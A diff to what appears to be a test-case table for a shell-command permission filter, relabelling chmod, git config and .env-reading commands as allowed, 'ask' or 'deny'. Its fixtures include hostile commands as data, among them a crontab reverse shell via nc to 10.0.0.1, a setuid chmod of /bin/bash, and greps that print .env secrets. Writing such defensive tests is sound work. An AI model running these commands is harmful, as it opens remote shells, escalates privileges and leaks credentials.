@@ -71,7 +71,8 @@ CASES: dict[str, list[tuple[str, str | None]]] = {
         ("sudo chmod 4755 /bin/bash", "deny"),
         ("sudo chmod 777 /var/run/docker.sock", "deny"),
         ("chmod a+r ~/.aws/credentials", "deny"),
-        ("chmod 644 ~/.ssh/id_ed25519.pub", "deny"),  # outside the project (workspace_boundary)
+        ("chmod 644 ~/.ssh/id_ed25519.pub", None),  # a public key: readable by all, written by none
+        ("chmod 664 ~/.ssh/id_ed25519.pub", "deny"),  # group write, outside the project
         ("chmod 700 ~/.ssh", None),
         ("chmod -R 777 .", "deny"),
         ("chmod -R 755 scripts", None),
@@ -259,7 +260,7 @@ CASES: dict[str, list[tuple[str, str | None]]] = {
         ("(crontab -l; echo '@reboot nc -e /bin/sh 10.0.0.1 4444') | crontab -", "deny"),
         ("echo 'source .venv/bin/activate' >> .envrc", None),
         ("git config user.email dev@example.com", None),
-        ("git config --global core.hooksPath ~/.githooks", "ask"),
+        ("git config --global core.hooksPath ~/.githooks", "deny"),  # every repository runs them
         ("git config --global user.name 'Dev'", "ask"),  # user configuration, outside the project
         ("crontab -l", None),
         # A git hook installed from the project's own script is project code; activating a hook
@@ -402,15 +403,16 @@ CASES["5-persistence"] += [
 
 CASES["3-secret-reads"] += [
     # Reading a secret file without printing its values: grep -c/-l/-q print a count, names or
-    # nothing; cut -d= -f1 and awk -F= '{print $1}' print an environment file's variable names.
+    # nothing; cut -d= -f1 and awk -F= '{print $1}' print an environment file's variable names,
+    # which LABELLING.md's settled calls confirm (a slip in the filter prints the values).
     ("grep -c '' .env", None),
     ("grep -l API_KEY .env .env.local", None),
     ("grep -q '^STRIPE_KEY=' .env && echo configured", None),
     ("rg --count TOKEN .env.production", None),
     ("grep -c x < .env", None),
-    ("cut -d= -f1 .env", None),
-    ("cut -d '=' -f 1 .env.local | sort", None),
-    ("awk -F= '{print $1}' .env", None),
+    ("cut -d= -f1 .env", "ask"),
+    ("cut -d '=' -f 1 .env.local | sort", "ask"),
+    ("awk -F= '{print $1}' .env", "ask"),
     ("grep API_KEY .env", "deny"),
     ("grep -o 'API_KEY=.*' .env", "deny"),
     ("cut -d= -f2 .env", "deny"),
@@ -601,10 +603,10 @@ CASES["5-persistence"] += [
 
 CASES["3-secret-reads"] += [
     # grep -o with a pattern anchored at the line start that stops at the first "=" prints
-    # variable names only; patterns that can run into the value still read the secrets.
-    ("grep -o '^[A-Z_]*=' .env | sort", None),
-    ("grep -oE '^[A-Za-z0-9_]+=' .env.local", None),
-    ("grep -o '^\\w*=' .env", None),
+    # variable names only (confirmed); patterns that can run into the value still read the secrets.
+    ("grep -o '^[A-Z_]*=' .env | sort", "ask"),
+    ("grep -oE '^[A-Za-z0-9_]+=' .env.local", "ask"),
+    ("grep -o '^\\w*=' .env", "ask"),
     ("grep -o '^[A-Z_]*=.*' .env", "deny"),
     ("grep -o '[A-Za-z0-9]*=' .env", "deny"),
     ("grep -o '^[^=]*=[^ ]*' .env", "deny"),
